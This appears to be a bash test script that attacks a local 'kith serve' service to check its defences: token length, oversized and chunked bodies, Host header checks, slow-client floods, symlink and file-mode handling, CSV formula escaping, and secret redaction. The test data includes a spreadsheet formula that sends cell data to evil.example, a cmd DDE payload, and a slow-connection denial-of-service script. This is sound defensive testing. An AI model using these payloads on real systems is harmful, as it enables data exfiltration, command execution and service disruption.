#!/usr/bin/env bash
# test_serve_hostile.sh - kith serve attacked on loopback (issue #16): short
# tokens, bodies sent before the token is checked, foreign Host headers, slow
# clients, planted symlinks and loose file modes, spreadsheet formulas in the
# CSV download, passwords in the configuration. Every loop is bounded.
set -u
. "$(dirname "${BASH_SOURCE[0]}")/tap.sh"
KITH=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
SRC=${KITH_SOURCE_DIR:-$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)}
T=$(mktemp -d)
PIDS=""
cleanup() {
  for p in $PIDS; do kill "$p" 2>/dev/null; done
  rm -rf "$T"
}
trap cleanup EXIT
[ -n "${KEEP:-}" ] && trap 'for p in $PIDS; do kill "$p" 2>/dev/null; done; echo "kept $T"' EXIT
cd "$T" || exit 1
unset KITH_DB KITH_CONFIG
check() { if eval "$2"; then ok "$1"; else fail "$1"; fi }
if ! command -v python3 >/dev/null 2>&1 || ! command -v curl >/dev/null 2>&1; then
  echo "skip: python3 and curl are needed"; echo "0 passed, 0 failed"; exit 0
fi
# As loose as a default shell, so that the modes kith gives its files are its own.
umask 022

# ---- the attacker's tools: raw sockets, each step bounded in time ----------------
cat > attack.py <<'PY'
import socket, sys, threading, time, urllib.request

def status_of(data):
    line = data.split(b"\r\n", 1)[0].split()
    return line[1].decode() if len(line) > 1 else "none"

def read_reply(s, deadline):
    data = b""
    while time.monotonic() < deadline:
        s.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            chunk = s.recv(65536)
        except (socket.timeout, ConnectionError):
            break
        if not chunk:
            break
        data += chunk
        if b"\r\n\r\n" in data:
            break
    return data

def big_post(port, token):
    # Headers announcing a 1 GB body, then 64 KiB of it: the answer must come
    # without the rest being sent.
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    auth = "Authorization: Bearer %s\r\n" % token if token else ""
    s.sendall(("POST /api/v1/remove HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n%s"
               "Content-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n"
               % (port, auth)).encode())
    try:
        s.sendall(b"{" + b" " * 65536)
    except OSError:
        pass
    start = time.monotonic()
    data = read_reply(s, start + 3)
    print(status_of(data), "%.1f" % (time.monotonic() - start))

def chunked(port, token):
    # A chunked body (no length announced) that never ends: the server must
    # stop reading soon after 64 KiB. Prints the bytes sent before it did.
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(("POST /api/v1/remove HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
               "Authorization: Bearer %s\r\nContent-Type: application/json\r\n"
               "Transfer-Encoding: chunked\r\n\r\n" % (port, token)).encode())
    chunk = b"4000\r\n" + b" " * 0x4000 + b"\r\n"
    sent, deadline = 0, time.monotonic() + 5
    try:
        while sent < 64 * 1024 * 1024 and time.monotonic() < deadline:
            s.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    print(sent)

def trickle(port, n, token):
    # N connections that each send a request one byte a second; meanwhile the
    # console's page and an API call must each be answered within a second.
    conns, stop = [], threading.Event()
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(b"G")
        conns.append(s)
    def drip():
        rest = b"ET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 60
        for i in range(len(rest)):
            if stop.wait(1):
                return
            for s in conns:
                try:
                    s.sendall(rest[i:i + 1])
                except OSError:
                    pass
    t = threading.Thread(target=drip)
    t.start()
    time.sleep(2.5)
    worst = 0.0
    for path, auth in (("/", None), ("/api/v1/status", token), ("/", None)):
        req = urllib.request.Request("http://127.0.0.1:%d%s" % (port, path))
        if auth:
            req.add_header("Authorization", "Bearer " + auth)
        start = time.monotonic()
        try:
            code = urllib.request.urlopen(req, timeout=5).status
        except Exception as e:
            code = getattr(e, "code", "none")
        worst = max(worst, time.monotonic() - start)
        if code != 200:
            worst = 99
    alive = 0
    for s in conns:
        s.setblocking(False)
        try:
            alive += s.recv(1) != b""
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
    stop.set()
    t.join()
    for s in conns:
        s.close()
    print("%.2f" % worst, alive)

def per_ip(port, n):
    # N idle connections from one address: how many the server closes at once.
    conns = [socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(n)]
    time.sleep(1)
    closed = 0
    for s in conns:
        s.setblocking(False)
        try:
            closed += s.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    for s in conns:
        s.close()
    print(closed)

def idle(port, limit):
    # One connection that never sends: seconds until the server closes it.
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    start = time.monotonic()
    s.settimeout(limit)
    try:
        s.recv(1)
    except socket.timeout:
        pass
    except OSError:
        pass
    print("%.0f" % (time.monotonic() - start))

cmd = sys.argv[1]
if cmd == "big_post":
    big_post(int(sys.argv[2]), sys.argv[3] if len(sys.argv) > 3 else "")
elif cmd == "chunked":
    chunked(int(sys.argv[2]), sys.argv[3])
elif cmd == "trickle":
    trickle(int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
elif cmd == "per_ip":
    per_ip(int(sys.argv[2]), int(sys.argv[3]))
elif cmd == "idle":
    idle(int(sys.argv[2]), float(sys.argv[3]))
PY
csv_clean() { # csv_clean FILE: no field starts with what a spreadsheet evaluates; the formula kept as text
  python3 - "$1" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
fields = [f for r in rows for f in r]
bad = [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
kept = "'=HYPERLINK(\"http://evil.example/?\"&C2,\"Open\")" in fields
sys.exit(1 if bad or not kept or "'-1+2" not in fields else 0)
PY
}

# ---- a store with a kith contact whose fields are spreadsheet formulas -------------
cat > User.csv <<'CSV'
Id,FirstName,LastName,Email,IsActive
005000000000000AAA,Kith,Integration,integration@corp.example,true
005000000000001AAA,Ann,Lee,ann.lee@corp.example,true
CSV
printf 'Id,Name,Website,Secondary_Domains__c,OwnerId\n001000000000101AAA,Contoso,contoso.com,,005000000000001AAA\n' > Account.csv
cat > Contact.csv <<'CSV'
Id,AccountId,FirstName,LastName,Email,Title,Phone,Department,Created_By_Kith__c
003000000000001AAA,001000000000101AAA,"=HYPERLINK(""http://evil.example/?""&C2,""Open"")",=cmd|' /C calc'!A0,eve@contoso.com,+SUM(1),-1+2,@SUM(1),true
CSV
"$KITH" init >/dev/null
for o in User Account Contact; do "$KITH" crm import $o $o.csv 2>/dev/null; done

TOKEN=0123456789abcdef0123456789abcdef0123
printf '%s\n' "$TOKEN" > token; chmod 600 token
printf 'hunter2-password-file\n' > imap.pw; chmod 600 imap.pw
mkdir inbox
cat > kith.conf <<'CONF'
[org]
internal_domains = corp.example
integration_user = 005000000000000AAA
[serve]
listen = 127.0.0.1:0
token_file = token
sync_interval = 1
scan_interval = 1
[source inbox]
path = inbox
[source mail]
type = imap
url = imaps://127.0.0.1:1
user = ann
password_file = imap.pw
CONF

start() { # start NAME [ARGS]: kith serve in the background, its port in $PORT
  local name=$1
  shift
  "$KITH" "$@" serve > "$name.out" 2> "$name.log" &
  PID=$!
  PIDS="$PIDS $PID"
  PORT=""
  for _ in $(seq 50); do
    grep -q '"event":"started"' "$name.log" && break
    kill -0 "$PID" 2>/dev/null || break
    sleep 0.1
  done
  PORT=$(grep -o '"port":[0-9]*' "$name.log" | head -1 | cut -d: -f2)
}
stop() { kill -TERM "$PID" 2>/dev/null; wait "$PID" 2>/dev/null; }
code() { curl -s -m 5 -o body.json -w '%{http_code}' "$@"; }

# ---- 1. the token's length ---------------------------------------------------------
: > empty.token; chmod 600 empty.token
sed 's/^token_file = token$/token_file = empty.token/' kith.conf > empty.conf
timeout 10 "$KITH" --config empty.conf serve > empty.out 2> empty.err; rc=$?
check "an empty token file is refused at start" \
  '[ "$rc" = 1 ] && grep -qx "kith: empty.token: token too short (0 characters; at least 32)" empty.err'
printf '0123456789abcdef0123456789abcde\n' > short.token; chmod 600 short.token
sed 's/^token_file = token$/token_file = short.token/' kith.conf > short.conf
timeout 10 "$KITH" --config short.conf serve > short.out 2> short.err; rc=$?
check "a token of 31 characters is refused at start" \
  '[ "$rc" = 1 ] && grep -qx "kith: short.token: token too short (31 characters; at least 32)" short.err'

# ---- 5. files: the token written at first start, modes, a planted symlink -----------
echo "do not overwrite" > victim
sed '/^token_file = token$/d' kith.conf > fresh.conf
ln -s "$T/victim" kith-serve.token.tmp
start fresh --config fresh.conf
check "a first start makes a token file" '[ -n "$PORT" ] && [ -s kith-serve.token ]'
NEW=$(cat kith-serve.token 2>/dev/null)
check "the new token is at least 32 characters" '[ ${#NEW} -ge 32 ]'
check "the token file is 0600" '[ "$(stat -c %a kith-serve.token)" = 600 ]'
check "a symlink planted at a temporary name is not followed" \
  '[ "$(cat victim)" = "do not overwrite" ] && [ -L kith-serve.token.tmp ]'
check "where the token is goes to stdout" 'grep -q "kith-serve.token" fresh.out'
check "the token itself is printed nowhere" '[ -n "$NEW" ] && ! grep -qF "$NEW" fresh.out fresh.log'
check "the store, its WAL and SHM are 0600" \
  '[ "$(stat -c %a kith.db kith.db-wal kith.db-shm | sort -u)" = 600 ]'
check "the new token is accepted" '[ "$(code -H "Authorization: Bearer $NEW" http://127.0.0.1:$PORT/api/v1/status)" = 200 ]'
stop
rm -f kith-serve.token kith-serve.token.tmp

# ---- the main service ---------------------------------------------------------------
start serve
check "serve started with a 36-character token" '[ -n "$PORT" ]'
U="http://127.0.0.1:$PORT"
H="Authorization: Bearer $TOKEN"

# ---- 2. the token before the body -----------------------------------------------------
check "an empty Bearer is 401" '[ "$(code -H "Authorization: Bearer " $U/api/v1/status)" = 401 ]'
check "a token one character short is 401" \
  '[ "$(code -H "Authorization: Bearer ${TOKEN%?}" $U/api/v1/status)" = 401 ]'
check "a token with one more character is 401" \
  '[ "$(code -H "Authorization: Bearer ${TOKEN}0" $U/api/v1/status)" = 401 ]'
r=$(python3 attack.py big_post "$PORT")
check "a POST of 1 GB without the token is 401 before its body is read ($r)" '[ "${r% *}" = 401 ]'
r=$(python3 attack.py big_post "$PORT" "$TOKEN")
check "a POST announcing 1 GB with the token is 413 before its body is read ($r)" '[ "${r% *}" = 413 ]'
r=$(python3 attack.py chunked "$PORT" "$TOKEN")
check "a chunked body is cut off soon after 64 KiB ($r bytes sent)" '[ -n "$r" ] && [ "$r" -lt 16000000 ]'
check "the service still answers" '[ "$(code -H "$H" $U/api/v1/status)" = 200 ]'

# ---- 3. the Host header -----------------------------------------------------------------
check "a foreign Host gets 421" '[ "$(code -H "Host: evil.example:$PORT" -H "$H" $U/api/v1/status)" = 421 ]'
check "the 421 is a JSON error" 'grep -q "^{\"error\":" body.json'
check "a foreign Host gets no console page" '[ "$(code -H "Host: evil.example" $U/)" = 421 ]'
check "a loopback name on another port gets 421" '[ "$(code -H "Host: localhost:1$PORT" $U/)" = 421 ]'
check "Host 127.0.0.1:PORT is served" '[ "$(code -H "Host: 127.0.0.1:$PORT" -H "$H" $U/api/v1/status)" = 200 ]'
check "Host localhost:PORT is served" '[ "$(code -H "Host: localhost:$PORT" -H "$H" $U/api/v1/status)" = 200 ]'
check "Host [::1]:PORT is served" '[ "$(code -H "Host: [::1]:$PORT" $U/)" = 200 ]'
check "Host LOCALHOST:PORT is served (names ignore case)" '[ "$(code -H "Host: LOCALHOST:$PORT" $U/)" = 200 ]'

# ---- 6. spreadsheet formulas in the CSV download -----------------------------------------
check "created as CSV" '[ "$(code -H "$H" "$U/api/v1/created?format=csv")" = 200 ]'
check "no CSV field begins with = + - @ tab or CR; each is kept behind a quote" 'csv_clean body.json'

# ---- 4. slow and idle clients ---------------------------------------------------------------
r=$(timeout 30 python3 attack.py per_ip "$PORT" 140)
check "one address gets at most 128 connections ($r closed of 140)" '[ "$r" = 12 ]'
python3 attack.py idle "$PORT" 25 > idle.out &
IDLE=$!
r=$(timeout 30 python3 attack.py trickle "$PORT" 64 "$TOKEN")
check "64 trickling connections: the console and the API answer within 1 s ($r)" \
  '[ -n "$r" ] && awk "BEGIN { exit !(${r% *} < 1.0) }" && [ "${r#* }" = 64 ]'
# Many calls at once while the service scans a source every second.
callers=""
for i in 1 2 3 4 5 6; do
  ( for _ in $(seq 40); do curl -s -m 5 -o /dev/null -w '%{http_code}\n' -H "$H" "$U/api/v1/status"; done > par$i.out ) &
  callers="$callers $!"
done
wait $callers
check "240 concurrent API calls while scanning are all 200" \
  '[ "$(cat par*.out | grep -c "^200$")" = 240 ] && kill -0 $PID'
wait "$IDLE"
r=$(cat idle.out)
check "an idle connection is closed after about 10 s ($r s)" '[ -n "$r" ] && [ "$r" -ge 9 ] && [ "$r" -le 13 ]'
kill -TERM "$PID"; wait "$PID"; rc=$?
check "after all that it stops cleanly on SIGTERM" '[ "$rc" = 0 ] && grep -q "\"event\":\"stopped\"" serve.log'
check "every line of the service log is JSON" '[ "$(grep -cv "^{" serve.log)" = 0 ]'

# ---- 7. no password in what the API serves ------------------------------------------------
printf 'hunter2-refresh-token\n' > sf.refresh; chmod 600 sf.refresh
# A password inside a URL is refused at start, and never printed.
cat kith.conf - > urlpw.conf <<'CONF'
[salesforce]
login_url = https://kith:hunter2-in-url@127.0.0.1:1
client_id = 3MVG9-kith-test
refresh_token_file = sf.refresh
CONF
timeout 10 "$KITH" --config urlpw.conf serve >urlpw.out 2>urlpw.err; rc=$?
check "a password in a URL is refused at start" '[ "$rc" = 2 ] && grep -q "before .@." urlpw.err'
check "the refusal does not print it" '! grep -q "hunter2" urlpw.out urlpw.err'
cat kith.conf - > secrets.conf <<'CONF'
[salesforce]
login_url = https://127.0.0.1:1
client_id = 3MVG9-kith-test
refresh_token_file = sf.refresh
max_retries = 0
CONF
start secrets --config secrets.conf
U="http://127.0.0.1:$PORT"
check "config" '[ "$(code -H "$H" $U/api/v1/config)" = 200 ] && grep -q "127.0.0.1:1" body.json'
check "config hides the password in a URL" '! grep -q "hunter2" body.json'
check "config names secret files, never their contents" 'grep -q "sf.refresh" body.json && grep -q "imap.pw" body.json'
for _ in $(seq 30); do code -H "$H" $U/api/v1/status >/dev/null; grep -q '"last_sync":{' body.json && break; sleep 0.2; done
check "status after a failed sync hides the password" 'grep -q "\"last_sync\":{" body.json && ! grep -q "hunter2" body.json'
check "the service log hides it too" '! grep -q "hunter2" secrets.log secrets.out'
stop

# ---- 3 again: names configured in [serve] allowed_hosts --------------------------------------
sed 's/^\[serve\]$/[serve]\nallowed_hosts = kith.example.org, console.example.org:8443/' kith.conf > hosts.conf
start hosts --config hosts.conf
U="http://127.0.0.1:$PORT"
check "serve starts with allowed_hosts" '[ -n "$PORT" ]'
check "an allowed name is served" '[ "$(code -H "Host: kith.example.org" -H "$H" $U/api/v1/status)" = 200 ]'
check "an allowed name with a port is served" '[ "$(code -H "Host: console.example.org:8443" $U/)" = 200 ]'
check "an allowed name on another port is not" '[ "$(code -H "Host: console.example.org:9999" $U/)" = 421 ]'
check "other names are still refused" '[ "$(code -H "Host: evil.example.org" $U/)" = 421 ]'
check "loopback names are still served" '[ "$(code -H "Host: localhost:$PORT" $U/)" = 200 ]'
stop

# ---- no lock across network I/O (#18): the console answers during a slow sync ------------------
# A token endpoint that takes 8 s to answer: the sync holds the service's
# store lock that long; what the console reads must not wait for it.
cat > slow.py <<'PY'
import http.server, sys, time
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        time.sleep(8)
        body = b'{"error":"invalid_grant","error_description":"slow test server"}'
        self.send_response(400); self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
print(srv.server_address[1], flush=True)
srv.timeout = 30
for _ in range(4):
    srv.handle_request()
PY
python3 slow.py > slow.port & SLOW=$!
for _ in $(seq 50); do [ -s slow.port ] && break; sleep 0.1; done
cat kith.conf - > slowsf.conf <<CONF
[salesforce]
login_url = http://127.0.0.1:$(cat slow.port)
client_id = 3MVG9-kith-test
refresh_token_file = sf.refresh
max_retries = 0
timeout = 20
CONF
sed -i 's/^sync_interval = .*/sync_interval = 3600/' slowsf.conf
start slowsf --config slowsf.conf
U="http://127.0.0.1:$PORT"
curl -s -m 30 -o sync.json -X POST -H "$H" -H "Content-Type: application/json" -d '{}' "$U/api/v1/sync" & SYNC=$!
sleep 1
t0=$(date +%s.%N)
s1=$(code -H "$H" $U/api/v1/status); s2=$(code -H "$H" "$U/api/v1/log?limit=5"); s3=$(code -H "$H" $U/metrics)
t1=$(date +%s.%N)
took=$(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.2f", b - a }')
check "during a sync held 8 s by a slow server, status, log and metrics answer within 1 s ($took s: $s1 $s2 $s3)" \
  '[ "$s1$s2$s3" = 200200200 ] && awk "BEGIN { exit !($took < 1.0) }" && kill -0 $SYNC 2>/dev/null'
wait $SYNC
stop
kill $SLOW 2>/dev/null; wait $SLOW 2>/dev/null

# ---- 5 again: the systemd unit -----------------------------------------------------------------
check "the systemd unit sets UMask=0077" 'grep -qx "UMask=0077" "$SRC/contrib/kith.service"'

finish
